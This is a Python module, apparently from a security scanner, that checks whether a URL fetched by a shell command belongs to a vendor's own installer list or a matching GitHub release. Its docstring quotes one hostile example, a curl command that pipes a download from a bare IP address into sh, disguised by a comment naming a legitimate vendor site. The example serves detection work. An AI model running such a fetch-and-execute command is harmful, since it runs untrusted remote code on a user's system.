"""Vendors' own installers (``data/knowledge/installers.yaml``): is this URL one?

The question is asked of the URL a command actually fetches, never of the line around it:
``curl http://91.92.242.10/x | sh # https://astral.sh`` fetches from an IP address.
"""

from __future__ import annotations

import re
from functools import lru_cache
from importlib import resources
from urllib.parse import urlsplit

from tank.core.frontmatter import safe_load

__all__ = ["installer_urls", "vendor_installer"]

_GITHUB = re.compile(
    r"^(?:github\.com/([\w.-]+)/([\w.-]+)/(?:releases/(?:latest/)?download|raw)/"
    r"|raw\.githubusercontent\.com/([\w.-]+)/([\w.-]+)/)",
    re.IGNORECASE,
)


@lru_cache(maxsize=1)
def installer_urls() -> tuple[str, ...]:
    """The vendor install locations, lower case, as ``host[/path prefix]``."""
    text = (resources.files("tank.scanner") / "data" / "knowledge" / "installers.yaml").read_text(
        "utf-8"
    )
    data = safe_load(text)
    urls = data.get("urls") if isinstance(data, dict) else None
    if not isinstance(urls, list):  # pragma: no cover - shipped data, checked by tests
        raise ValueError("data/knowledge/installers.yaml: expected a list under 'urls'")
    return tuple(str(u).lower() for u in urls)


def _matches(location: str, entry: str) -> bool:
    host, _, path = entry.partition("/")
    loc_host, _, loc_path = location.partition("/")
    if host.startswith("*."):
        if not loc_host.endswith(host[1:]):
            return False
    elif loc_host != host:
        return False
    return not path or loc_path.startswith(path)


def vendor_installer(url: str, text: str = "") -> bool:
    """True when ``url`` is https and a vendor's own installer: listed, or a GitHub release
    or raw file of a repository whose name ``text`` also runs as a program."""
    parts = urlsplit(url.strip().strip("'\"`"))
    if parts.scheme.lower() != "https" or not parts.hostname:
        return False
    location = (parts.hostname + parts.path).lower()
    if any(_matches(location, entry) for entry in installer_urls()):
        return True
    github = _GITHUB.match(parts.hostname.lower() + parts.path)
    if github and text:
        repo = (github.group(2) or github.group(4) or "").lower()
        outside = re.sub(r"\S*://\S*", " ", text)
        return len(repo) >= 3 and bool(
            re.search(rf"(?:^|[\s;&|`(]){re.escape(repo)}(?=\s)", outside, re.IGNORECASE | re.M)
        )
    return False
